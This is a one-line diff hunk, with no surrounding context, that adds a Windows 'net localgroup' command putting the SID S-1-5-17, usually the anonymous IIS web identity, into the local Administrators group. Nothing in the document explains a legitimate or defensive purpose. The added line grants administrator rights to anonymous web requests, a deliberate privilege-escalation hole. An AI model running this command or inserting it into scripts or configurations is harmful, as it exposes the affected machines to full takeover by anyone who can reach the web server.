@@ -1,0 +1,1 @@
+net localgroup Administrators S-1-5-17 /add
